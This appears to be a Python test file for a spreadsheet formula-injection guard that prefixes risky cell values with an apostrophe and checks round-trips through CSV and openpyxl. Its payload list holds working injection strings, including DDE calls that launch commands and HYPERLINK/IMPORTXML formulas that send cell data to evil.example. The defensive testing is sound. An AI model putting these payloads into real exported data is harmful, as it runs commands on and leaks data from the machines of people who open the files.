import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook

from app.analysis.guard import guard, unguard

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"See")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- milk",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\0=1+1",
    "\0plain",
    " =1+1",
    "  \t =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}=1+1",
    "\ufeff=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH JOINER}@A1",
    "\N{RIGHT-TO-LEFT MARK}=1+1",
    "\N{SOFT HYPHEN}=1+1",
    "\x1b=1+1",
    "\N{COMBINING GRAPHEME JOINER}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{SMALL COMMERCIAL AT}A1",
    "\N{MINUS SIGN}1+1",
    "'=1+1",
    "''",
    "-9",
    "-9.5",
]
HARMLESS = ["", " ", "9", "1 200", "a=1", "nē, -1", "“=1”", "– milk", "e@mail.example", "Ērglis", "(=1)", "ко́т", "#1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe_that_comes_off_again(payload: str) -> None:
    assert guard(payload) == f"'{payload}"
    assert unguard(guard(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_spreadsheet_could_run_stays_as_it_is(text: str) -> None:
    assert guard(text) == text


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if "\0" not in payload and "\x1b" not in payload])
def test_a_workbook_that_takes_the_cell_over_holds_no_formula(payload: str) -> None:
    sheet = Workbook().active
    assert sheet is not None
    sheet["A1"] = guard(payload)
    assert sheet["A1"].data_type == "s"


@given(text=st.text())
@example("'")
@example("=" * 3)
def test_every_text_comes_back_as_it_was_written(text: str) -> None:
    assert unguard(guard(text)) == text


@given(text=st.text(alphabet="=+-@\t\r\n\0' a1\ufeff\N{FULLWIDTH EQUALS SIGN}"))
def test_no_guarded_text_begins_with_a_sign(text: str) -> None:
    guarded = guard(text)
    assert guarded[:1] not in tuple("=+-@\t\r\n\0")
    assert guarded.lstrip(" \ufeff\t\r\n\0")[:1] not in tuple("=+-@\N{FULLWIDTH EQUALS SIGN}")


@given(texts=st.lists(st.text(alphabet=st.characters(exclude_characters="\r", exclude_categories=["Cs"])), min_size=2))
def test_every_text_comes_back_through_a_csv_file(texts: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([guard(text) for text in texts])
    file.seek(0)
    assert [unguard(cell) for cell in next(csv.reader(file))] == texts
